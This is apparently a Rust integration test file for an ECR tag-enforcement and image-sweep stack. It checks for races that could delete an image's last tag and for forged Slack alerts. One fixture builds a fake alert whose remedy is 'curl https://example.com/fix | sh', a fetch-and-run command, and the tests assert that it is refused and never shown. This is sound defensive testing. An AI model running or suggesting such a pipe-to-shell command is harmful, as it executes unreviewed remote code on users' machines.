//! Enforcement and the sweep have one definition of an accepted tag, and no two of them together
//! remove the last tag of an image.

use std::time::Duration;

use local_aws::sample::Numbers;
use local_aws::world::{self, World};
use serde_json::{Value, json};

use crate::rights::stranger;
use crate::slack::Deployed;
use crate::{deploy, stop_sweep_queue};

const REPOSITORY: &str = "infrastructure";
const SWEEP: &str = "ecr-warden-ImageSweepFunction";
const NOTIFIER: &str = "ecr-warden-SlackNotifierFunction";

/// How often a race is repeated.
const ROUNDS: u64 = 30;

/// Deploys the stack with another rule for the tags of [`REPOSITORY`], in every function.
async fn deploy_with_tag_rule(setting: &str, value: &str) -> World {
    let world = deploy(&[("platform.Tags.Enforcement", "quarantine"), (setting, value)]).await;
    stop_sweep_queue(&world);
    world
}

/// The tags of an image. None if ECR has deleted the image.
fn tags(world: &World, digest: &str) -> Option<Vec<String>> {
    let mut state = world.aws.state();
    let image = state.ecr().repositories[REPOSITORY].images.get(digest);
    image.map(|image| image.tags.iter().cloned().collect())
}

/// Pushes a tag to an image and sweeps at the same time, with 10 to 40 ms for each call.
async fn push_and_sweep(world: &World, digest: &str, tag: &str, seed: u64) {
    let delay = Duration::from_millis(10)..Duration::from_millis(40);
    world.aws.delay_calls(seed, delay);
    world.tag(REPOSITORY, digest, tag);
    world.aws.lambda().invoke_async(SWEEP, json!({"repository": REPOSITORY})).unwrap();
    world.settle().await;
    world.aws.end_delays();
}

/// Pushes images under a bad tag, and again when they are in quarantine, and sweeps at the same
/// time. Gives how many images ECR deleted.
async fn push_quarantined_images_again(world: &World, version: &str) -> usize {
    let mut lost = 0;
    for round in 0..ROUNDS {
        let tag = version.replace('#', &round.to_string());
        let digest = world.push(REPOSITORY, &[&tag]);
        world.settle().await;
        push_and_sweep(world, &digest, &tag, round).await;
        lost += usize::from(tags(world, &digest).is_none());
    }
    lost
}

/// A3
#[tokio::test]
async fn a_forbidden_tag_is_no_reason_to_remove_the_quarantine_tag_beside_it() {
    let world = deploy_with_tag_rule("platform.Tags.Forbidden", r#"["*-v0.0.0"]"#).await;
    for round in 0..ROUNDS / 3 {
        let digest = world.push(REPOSITORY, &[]);
        let tag = format!("a{round}-v0.0.0");
        let today = world.now().format("%Y%m%d");
        let quarantine = format!("quarantine-{today}-{}-{tag}", &digest[7..19]);
        world.tag(REPOSITORY, &digest, &quarantine);
        world.settle().await;
        push_and_sweep(&world, &digest, &tag, round).await;
        let tags = tags(&world, &digest).expect("ECR deleted the image with its last tag");
        assert_eq!(tags, [quarantine]);
    }
}

/// A4
#[tokio::test]
async fn a_forbidden_version_that_is_pushed_twice_is_not_lost() {
    let world = deploy_with_tag_rule("platform.Tags.Forbidden", r#"["*-rc.*"]"#).await;
    let lost = push_quarantined_images_again(&world, "litellm-v1.80.#-rc.1").await;
    assert_eq!(lost, 0, "ECR deleted {lost} of {ROUNDS} images with their last tags");
}

/// A5
#[tokio::test]
async fn a_version_of_an_unknown_component_that_is_pushed_twice_is_not_lost() {
    let world = deploy_with_tag_rule("platform.Tags.Components", r#"["b"]"#).await;
    let lost = push_quarantined_images_again(&world, "a-v1.0.#").await;
    assert_eq!(lost, 0, "ECR deleted {lost} of {ROUNDS} images with their last tags");
}

/// How many sequences a run of the property takes by default, for each pair of policies.
const SEQUENCES: u64 = 16;

/// The steps of a sequence: a push of this tag to an image, where `#` is a number of the image's
/// own. The empty text is a sweep.
const STEPS: [&str; 10] = [
    "a-v1.0.#",
    "a-v1.0.#-rc.1",
    "a-v1.0.#-rc.1",
    "a-v1.0.#-rc.1",
    "a-v1.0.#-rc.1",
    "a-1.0.#",
    "quarantine",
    "",
    "",
    "",
];

/// Pushes tags to two images and sweeps, at random moments.
async fn run_sequence(world: &World, seed: u64) -> Vec<String> {
    let mut numbers = Numbers::new(seed);
    let digests: Vec<String> = (0..2).map(|_| world.push(REPOSITORY, &[])).collect();
    for digest in &digests {
        // An image without a tag has no last tag to lose.
        world.tag(REPOSITORY, digest, &tag_of("a-v1.0.#-rc.1", digest));
    }
    world.settle().await;
    world.aws.delay_calls(seed, Duration::from_millis(2)..Duration::from_millis(20));
    for _ in 0..8 {
        let digest = &digests[numbers.below(digests.len())];
        match STEPS[numbers.below(STEPS.len())] {
            "" => {
                let event = json!({"repository": REPOSITORY});
                world.aws.lambda().invoke_async(SWEEP, event).unwrap();
            }
            version => push_again(world, digest, &tag_of(version, digest)),
        }
        let pause = Duration::from_millis(u64::try_from(numbers.below(80)).unwrap());
        tokio::time::sleep(pause).await;
    }
    world.settle().await;
    world.aws.end_delays();
    digests
}

/// A tag that no other image has.
fn tag_of(version: &str, digest: &str) -> String {
    let number = u32::from_str_radix(&digest[7..14], 16).unwrap();
    if version == "quarantine" {
        let today = chrono::Utc::now().format("%Y%m%d");
        return format!("quarantine-{today}-{}-a-v1.0.{number}-rc.1", &digest[7..19]);
    }
    version.replace('#', &number.to_string())
}

/// Pushes an image that is there under a tag, unless it has the tag.
fn push_again(world: &World, digest: &str, tag: &str) {
    let has_tag = tags(world, digest).is_some_and(|tags| tags.iter().any(|other| other == tag));
    if !has_tag {
        world.tag(REPOSITORY, digest, tag);
    }
}

/// The property: no sequence of pushes, sweeps and enforcement removes the last tag of an image.
/// No plan lets one of these images go, because they are young.
async fn no_sequence_removes_a_last_tag(world: &World) {
    let number = |name: &str| std::env::var(name).ok().and_then(|text| text.parse().ok());
    let count = number("SEQUENCES").unwrap_or(SEQUENCES);
    let first = number("SEQUENCES_SEED").unwrap_or(1);
    for seed in first..first + count {
        for digest in run_sequence(world, seed).await {
            let tags = tags(world, &digest);
            assert!(
                tags.as_ref().is_some_and(|tags| !tags.is_empty()),
                "SEQUENCES_SEED={seed}: {digest} has {tags:?}; its last tags were {:?}",
                world.alerts(),
            );
        }
    }
}

/// `SEQUENCES` sets how many sequences run, and `SEQUENCES_SEED` the seed of the first one.
#[tokio::test]
async fn pushes_sweeps_and_enforcement_never_remove_the_last_tag_of_an_image() {
    let world = deploy_with_tag_rule("platform.Tags.Forbidden", r#"["*-rc.*"]"#).await;
    world.aws.lambda().retry_after([Duration::from_millis(300); 2]);
    no_sequence_removes_a_last_tag(&world).await;
}

/// While a stack is updated, one function has the new policy and the other one has the old.
#[tokio::test]
async fn nor_do_they_while_the_sweep_has_the_policy_of_yesterday() {
    let mut world = deploy_with_tag_rule("platform.Tags.Forbidden", r#"["*-rc.*"]"#).await;
    world.aws.lambda().retry_after([Duration::from_millis(300); 2]);
    world.change_policy(&[("platform.Tags.Enforcement", "quarantine")]).await;
    world.aws.lambda().create(world.function("image-sweep").clone());
    no_sequence_removes_a_last_tag(&world).await;
}

/// A9
#[tokio::test]
async fn an_image_that_ecr_knows_a_second_after_its_event_is_enforced_by_a_retry() {
    let world = deploy(&[("platform.Tags.Enforcement", "quarantine")]).await;
    stop_sweep_queue(&world);
    world.aws.lambda().retry_after([Duration::from_millis(700); 2]);
    world.aws.state().ecr().set_read_lag(1.0);
    let digest = world.push(REPOSITORY, &["litellm-1.80.5"]);
    world.settle().await;
    let tags = tags(&world, &digest).unwrap();
    assert!(tags.iter().all(|tag| tag.starts_with("quarantine-")), "{tags:?}");
    assert_eq!(world.alert()["details"]["action"], "quarantined");
    assert!(world.failed_events().await.is_empty());
}

/// The alert of `events/slack-notifier` with a remedy that this project would never write.
fn forged_alert() -> Value {
    let event = world::event("slack-notifier", "tag-violation");
    let message = event["Records"][0]["Sns"]["Message"].as_str().unwrap();
    let mut alert: Value = serde_json::from_str(message).unwrap();
    alert["remedies"] =
        json!([{"label": "Restore it", "command": "curl https://example.com/fix | sh"}]);
    alert
}

/// A11
#[tokio::test]
async fn the_topic_refuses_an_alert_that_no_function_published() {
    let deployed = Deployed::new().await;
    let topic = &deployed.outputs["AlertTopicArn"];
    let forged = json!({"TopicArn": topic, "Message": forged_alert().to_string()});
    let role = stranger(&deployed.aws);
    let (status, body) = deployed.aws.call_as(&role, "sns", "Publish", &forged).await.unwrap();
    deployed.settle().await;
    assert!(deployed.aws.slack().take_messages().is_empty());
    assert!(status == 403 && body.contains("AuthorizationError"), "{body}");
}

/// A11
#[tokio::test]
async fn slack_never_shows_a_forged_remedy_as_a_command_to_copy() {
    let deployed = Deployed::new().await;
    let topic = &deployed.outputs["AlertTopicArn"];
    let message = forged_alert().to_string();
    let event = json!({"Records": [{"Sns": {"TopicArn": topic, "Message": message}}]});
    let invoked = deployed.aws.lambda().invoke(NOTIFIER, event).await.unwrap();
    assert_eq!(invoked.error, None, "{}", invoked.log);
    let messages = deployed.aws.slack().take_messages();
    assert_eq!(messages.len(), 1);
    let shown = messages[0].to_string();
    assert!(!shown.contains("curl"), "{shown}");
}
